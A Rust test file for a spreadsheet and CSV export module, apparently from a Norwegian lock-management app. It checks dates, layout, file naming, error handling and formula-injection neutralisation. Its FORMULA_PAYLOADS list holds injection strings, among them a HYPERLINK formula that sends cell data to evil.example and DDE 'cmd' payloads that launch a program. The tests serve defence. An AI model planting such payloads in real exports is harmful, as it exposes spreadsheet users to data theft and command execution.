//! Exports read back: the `.xlsx` with calamine (and its XML, for what calamine does not tell:
//! the frozen pane, formulas, the quote-prefix style), the `.csv` with the csv crate.

use std::io::Read;
use std::path::{Path, PathBuf};

use calamine::{open_workbook, Data, Reader, Xlsx};
use chrono::{DateTime, FixedOffset, NaiveDate, Utc};

use super::neutralise::{looks_like_formula, FORMULA_STARTS};
use super::*;
use crate::views::ExportDone;

/// Formula payloads beside the simulator's hostile texts: each would run, link or compute if a
/// spreadsheet took it for a formula.
const FORMULA_PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikk\")",
    "=cmd|' /C calc'!A0",
    "+4790000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
];

/// A folder of its own under the system's temporary folder, removed when dropped.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str) -> Self {
        let dir =
            std::env::temp_dir().join(format!("unloc-export-{name}-{}-{}", std::process::id(), fastrand::u64(..)));
        std::fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }

    fn file(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn oslo_winter() -> FixedOffset {
    FixedOffset::east_opt(3600).unwrap()
}

fn moment(text: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(text).unwrap().with_timezone(&Utc)
}

/// Every hostile text there is: the simulator's payloads and the formula payloads.
fn hostile_texts() -> Vec<String> {
    let simulator = unloc_sim::payloads::PAYLOADS.iter().map(|(_, text)| (*text).to_owned());
    let phones = (0..unloc_sim::payloads::PAYLOADS.len()).filter_map(unloc_sim::payloads::hostile_msn);
    simulator.chain(phones).chain(FORMULA_PAYLOADS.iter().map(|text| (*text).to_owned())).collect()
}

fn hostile_table() -> Table {
    Table {
        sheet: "Hendelseslogg".into(),
        headings: vec!["Tidspunkt".into(), "Tekst".into(), "Antall".into()],
        rows: hostile_texts()
            .into_iter()
            .enumerate()
            .map(|(i, text)| {
                vec![Cell::Time(moment("2026-11-26T13:05:00.250Z")), Cell::text(text), Cell::Count(i as u64)]
            })
            .collect(),
    }
}

fn target(path: PathBuf, format: FileFormat, language: Language) -> Target {
    Target { path, format, language }
}

/// One part of the workbook's zip, as text.
fn xlsx_part(path: &Path, part: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    archive.by_name(part).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// The value of `name="…"` in one XML tag.
fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
    Some(&tag[start..start + tag[start..].find('"')?])
}

/// The style index (`s`) of each cell of column B, by row number.
fn styles_of_column_b(sheet_xml: &str) -> Vec<(u32, Option<String>)> {
    sheet_xml
        .match_indices("<c r=\"B")
        .map(|(at, _)| {
            let tag = &sheet_xml[at..at + sheet_xml[at..].find('>').unwrap()];
            let row = attribute(tag, "r").unwrap()[1..].parse().unwrap();
            (row, attribute(tag, "s").map(str::to_owned))
        })
        .collect()
}

/// The indices of the cell formats (`cellXfs`) that carry `quotePrefix="1"`.
fn quote_prefix_styles(styles_xml: &str) -> Vec<String> {
    let cell_xfs = &styles_xml[styles_xml.find("<cellXfs").unwrap()..styles_xml.find("</cellXfs>").unwrap()];
    cell_xfs
        .match_indices("<xf ")
        .enumerate()
        .filter(|(_, (at, _))| {
            let tag = &cell_xfs[*at..at + cell_xfs[*at..].find('>').unwrap()];
            attribute(tag, "quotePrefix") == Some("1")
        })
        .map(|(index, _)| index.to_string())
        .collect()
}

#[test]
fn an_xlsx_reads_back_with_real_date_cells_in_local_time_numbers_and_text() {
    let scratch = Scratch::new("dates");
    let path = scratch.file("historikk.xlsx");
    let table = Table {
        sheet: "Hendelseslogg".into(),
        headings: vec!["Tidspunkt".into(), "Person".into(), "Antall".into(), "Tomt".into()],
        rows: vec![
            vec![
                Cell::Time(moment("2026-11-26T13:05:07.000Z")),
                Cell::text("Kari Nordmann"),
                Cell::Count(3),
                Cell::Empty,
            ],
            vec![Cell::Time(moment("2026-07-01T23:30:00Z")), Cell::text("Ola"), Cell::Count(0), Cell::Empty],
        ],
    };
    let done = save(&table, &target(path.clone(), FileFormat::Xlsx, Language::Nb), &oslo_winter()).unwrap();
    assert_eq!(done, ExportDone { path: path.display().to_string(), rows: 2 });

    let mut workbook: Xlsx<_> = open_workbook(&path).unwrap();
    assert_eq!(workbook.sheet_names(), ["Hendelseslogg"]);
    let range = workbook.worksheet_range("Hendelseslogg").unwrap();
    assert_eq!(range.get_value((0, 0)), Some(&Data::String("Tidspunkt".into())));
    let Some(Data::DateTime(when)) = range.get_value((1, 0)) else {
        panic!("the time is not a date cell: {:?}", range.get_value((1, 0)));
    };
    assert!(when.is_datetime());
    // 13:05 UTC is 14:05 in the zone asked for, and 23:30 UTC is already the next day there.
    let local = NaiveDate::from_ymd_opt(2026, 11, 26).unwrap().and_hms_opt(14, 5, 7).unwrap();
    assert_eq!(when.as_datetime(), Some(local));
    let Some(Data::DateTime(next_day)) = range.get_value((2, 0)) else { panic!("row 2 has no date cell") };
    assert_eq!(
        next_day.as_datetime().unwrap().date(),
        NaiveDate::from_ymd_opt(2026, 7, 1).unwrap().succ_opt().unwrap()
    );
    assert_eq!(range.get_value((1, 1)), Some(&Data::String("Kari Nordmann".into())));
    assert_eq!(range.get_value((1, 2)), Some(&Data::Float(3.0)));
    assert!(matches!(range.get_value((1, 3)), None | Some(Data::Empty)));

    // The date shows the Norwegian way, dd.mm.yyyy and a 24-hour clock.
    assert!(xlsx_part(&path, "xl/styles.xml").contains("formatCode=\"dd.mm.yyyy hh:mm:ss\""));
}

#[test]
fn an_xlsx_has_its_header_row_frozen_filtered_and_columns_sized_to_their_content() {
    let scratch = Scratch::new("layout");
    let path = scratch.file("keys.xlsx");
    let long = "Langtnavn".repeat(30);
    let table = Table {
        sheet: "Keys".into(),
        headings: vec!["Time".into(), "Lock".into(), "ID".into()],
        rows: vec![vec![
            Cell::Time(moment("2026-11-26T13:05:00Z")),
            Cell::text("Bod 12, Storgata 1"),
            Cell::text(&long),
        ]],
    };
    save(&table, &target(path.clone(), FileFormat::Xlsx, Language::En), &Utc).unwrap();
    let sheet = xlsx_part(&path, "xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"),
        "{sheet}"
    );
    assert!(sheet.contains("<autoFilter ref=\"A1:C2\"/>"), "{sheet}");
    let widths: Vec<f64> = sheet
        .match_indices("<col ")
        .map(|(at, _)| attribute(&sheet[at..at + sheet[at..].find('>').unwrap()], "width").unwrap().parse().unwrap())
        .collect();
    assert_eq!(widths.len(), 3, "{sheet}");
    assert!(widths[0] >= 19.0 && widths[0] < 25.0, "a date and time fits: {widths:?}");
    assert!(widths[1] >= 18.0 && widths[1] < 25.0, "the lock's text fits: {widths:?}");
    assert!(widths[2] <= 62.0, "a long text is not wider than a screen: {widths:?}");
    assert!(xlsx_part(&path, "xl/styles.xml").contains("formatCode=\"yyyy-mm-dd hh:mm:ss\""));
}

#[test]
fn no_hostile_text_becomes_a_formula_in_an_xlsx() {
    let scratch = Scratch::new("xlsx-injection");
    let path = scratch.file("hostile.xlsx");
    let table = hostile_table();
    save(&table, &target(path.clone(), FileFormat::Xlsx, Language::Nb), &oslo_winter()).unwrap();

    let mut workbook: Xlsx<_> = open_workbook(&path).unwrap();
    let formulas = workbook.worksheet_formula("Hendelseslogg").unwrap();
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "a formula was written");
    let range = workbook.worksheet_range("Hendelseslogg").unwrap();
    for (row, text) in (1..).zip(hostile_texts()) {
        // Excel's own escape for a control character in XML, as a reader that does not undo it shows it.
        let expected = text.replace('\u{0}', "_x0000_");
        let read = range.get_value((row, 1));
        assert!(
            read == Some(&Data::String(expected.clone())) || read == Some(&Data::String(text.clone())),
            "row {row}: wrote {text:?}, read {read:?}"
        );
    }
    let sheet = xlsx_part(&path, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a formula element in the sheet");
    let quoted = quote_prefix_styles(&xlsx_part(&path, "xl/styles.xml"));
    assert_eq!(quoted.len(), 1, "one quote-prefix style: {quoted:?}");
    let mut formula_like = 0;
    for ((row, style), text) in styles_of_column_b(&sheet).into_iter().skip(1).zip(hostile_texts()) {
        let is_quoted = style.as_ref().is_some_and(|style| quoted.contains(style));
        assert_eq!(is_quoted, looks_like_formula(&text), "row {row} ({text:?}) quote prefix");
        formula_like += usize::from(is_quoted);
    }
    assert!(formula_like >= FORMULA_PAYLOADS.len() + 6, "too few formula-like payloads tried: {formula_like}");
}

/// The fields of a CSV export, read with the csv crate after its byte order mark.
fn read_csv(path: &Path, separator: u8) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "no UTF-8 byte order mark");
    csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn no_hostile_text_becomes_a_formula_in_a_csv_and_the_rest_reads_back_unchanged() {
    let scratch = Scratch::new("csv-injection");
    let path = scratch.file("hostile.csv");
    save(&hostile_table(), &target(path.clone(), FileFormat::Csv, Language::Nb), &oslo_winter()).unwrap();
    let rows = read_csv(&path, b';');
    assert_eq!(rows[0], ["Tidspunkt", "Tekst", "Antall"]);
    let texts = hostile_texts();
    assert_eq!(rows.len(), texts.len() + 1);
    for (row, text) in rows[1..].iter().zip(&texts) {
        assert_eq!(row.len(), 3, "{text:?} split a row: {row:?}");
        if looks_like_formula(text) {
            assert_eq!(row[1], format!("'{text}"));
        } else {
            assert_eq!(&row[1], text);
        }
        assert!(!row[1].starts_with(FORMULA_STARTS), "{:?} would be a formula", row[1]);
        assert_eq!(row[0], "2026-11-26 14:05:00", "the time in the zone asked for");
    }
}

#[test]
fn a_csv_has_a_bom_and_the_separator_of_its_language() {
    let scratch = Scratch::new("csv-language");
    let table = Table {
        sheet: "x".into(),
        headings: vec!["Når".into(), "Hvem".into()],
        rows: vec![vec![Cell::Time(moment("2026-11-26T13:05:00Z")), Cell::text("Ærlig, Åse; og Øystein")]],
    };
    for (language, separator, line) in [(Language::Nb, b';', "Når;Hvem\r\n"), (Language::En, b',', "Når,Hvem\r\n")] {
        let path = scratch.file(&format!("{}.csv", language.tag()));
        save(&table, &target(path.clone(), FileFormat::Csv, language), &Utc).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.starts_with(&format!("\u{FEFF}{line}")), "{language:?}: {text:?}");
        let rows = read_csv(&path, separator);
        assert_eq!(rows[1], ["2026-11-26 13:05:00", "Ærlig, Åse; og Øystein"], "{language:?}");
    }
}

#[test]
fn the_chosen_name_gets_the_formats_extension_when_it_lacks_it() {
    let with = |path: &str, format| target(PathBuf::from(path), format, Language::En).final_path();
    assert_eq!(with("/tmp/rapport.xlsx", FileFormat::Xlsx), PathBuf::from("/tmp/rapport.xlsx"));
    assert_eq!(with("/tmp/rapport.XLSX", FileFormat::Xlsx), PathBuf::from("/tmp/rapport.XLSX"));
    assert_eq!(with("/tmp/rapport", FileFormat::Csv), PathBuf::from("/tmp/rapport.csv"));
    assert_eq!(with("/tmp/rapport.nov", FileFormat::Csv), PathBuf::from("/tmp/rapport.nov.csv"));
}

#[test]
fn an_added_extension_never_replaces_a_file_the_user_was_not_asked_about() {
    let scratch = Scratch::new("added-extension");
    let chosen = scratch.file("rapport");
    let existing = scratch.file("rapport.csv");
    std::fs::write(&existing, "kept").unwrap();
    let table = Table { sheet: "Ark".into(), headings: vec!["Hvem".into()], rows: vec![vec![Cell::text("Kari")]] };
    let done = save(&table, &target(chosen, FileFormat::Csv, Language::Nb), &Utc).unwrap();
    assert_eq!(
        PathBuf::from(&done.path),
        scratch.file("rapport (2).csv"),
        "the next free name, which the user is told"
    );
    assert_eq!(std::fs::read_to_string(&existing).unwrap(), "kept");
    assert_eq!(read_csv(Path::new(&done.path), b';')[1], ["Kari"]);
}

#[test]
fn languages_are_read_from_tags() {
    assert_eq!(Language::from_tag("nb-NO"), Language::Nb);
    assert_eq!(Language::from_tag("nn"), Language::Nb);
    assert_eq!(Language::from_tag("en-GB"), Language::En);
    assert_eq!(Language::from_tag(""), Language::En);
}

#[test]
fn a_failed_export_leaves_nothing_half_written_and_says_why() {
    let scratch = Scratch::new("failure");
    // The chosen name is a folder: the file cannot take its place.
    let taken = scratch.file("taken.xlsx");
    std::fs::create_dir(&taken).unwrap();
    let error = save(&hostile_table(), &target(taken.clone(), FileFormat::Xlsx, Language::En), &Utc).unwrap_err();
    assert_eq!(error.kind, ErrorKind::ExportFailed);
    assert!(error.message.contains("taken.xlsx"), "{}", error.message);
    assert!(taken.is_dir());
    assert_eq!(std::fs::read_dir(&scratch.0).unwrap().count(), 1, "a partial file was left behind");

    let missing = scratch.file("no-such-folder/rapport.csv");
    let error = save(&hostile_table(), &target(missing, FileFormat::Csv, Language::En), &Utc).unwrap_err();
    assert_eq!(error.kind, ErrorKind::ExportFailed);
}

#[test]
fn a_full_disk_and_a_refused_folder_are_told_apart() {
    let kind = |io: std::io::ErrorKind| WriteError::Io(io.into()).into_app_error(Path::new("/x/a.csv")).kind;
    assert_eq!(kind(std::io::ErrorKind::StorageFull), ErrorKind::ExportDiskFull);
    assert_eq!(kind(std::io::ErrorKind::QuotaExceeded), ErrorKind::ExportDiskFull);
    assert_eq!(kind(std::io::ErrorKind::PermissionDenied), ErrorKind::ExportDenied);
    assert_eq!(kind(std::io::ErrorKind::ReadOnlyFilesystem), ErrorKind::ExportDenied);
    assert_eq!(kind(std::io::ErrorKind::NotFound), ErrorKind::ExportFailed);
}

/// /dev/full takes no data: a real ENOSPC from a real write.
#[cfg(target_os = "linux")]
#[test]
fn writing_to_a_full_device_is_a_full_disk() {
    use std::io::Write;
    let mut full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let error = full.write_all(&[0; 64]).and_then(|()| full.flush()).unwrap_err();
    assert_eq!(WriteError::Io(error).into_app_error(Path::new("/dev/full")).kind, ErrorKind::ExportDiskFull);
}

#[test]
fn too_many_rows_for_excel_is_refused_before_anything_is_written() {
    let scratch = Scratch::new("rows");
    let path = scratch.file("big.xlsx");
    let table = Table { sheet: "x".into(), headings: vec!["n".into()], rows: vec![vec![Cell::Empty]; 1_048_576] };
    let error = save(&table, &target(path.clone(), FileFormat::Xlsx, Language::En), &Utc).unwrap_err();
    assert_eq!(error.kind, ErrorKind::ExportTooManyRows);
    assert!(!path.exists());
}

#[test]
fn rows_counted_past_excels_limit_are_refused_before_one_is_read() {
    let scratch = Scratch::new("counted");
    let path = scratch.file("big.xlsx");
    let mut read = false;
    let error =
        save_rows("x", &["n".into()], 1_048_576, &target(path.clone(), FileFormat::Xlsx, Language::En), &Utc, |_| {
            read = true;
            Ok(())
        })
        .unwrap_err();
    assert_eq!(error.kind, ErrorKind::ExportTooManyRows);
    assert!(!read, "the rows were read before the count was checked");
    assert!(!path.exists());
}

#[test]
fn a_request_needs_a_full_path() {
    assert!(Target::from_request("/home/kari/rapport.xlsx", FileFormat::Xlsx, "nb-NO").is_ok());
    for bad in ["", "rapport.xlsx", "  ", "/"] {
        let error = Target::from_request(bad, FileFormat::Csv, "en").unwrap_err();
        assert_eq!((error.kind, error.field), (ErrorKind::InvalidInput, Some("path")), "{bad:?}");
    }
}
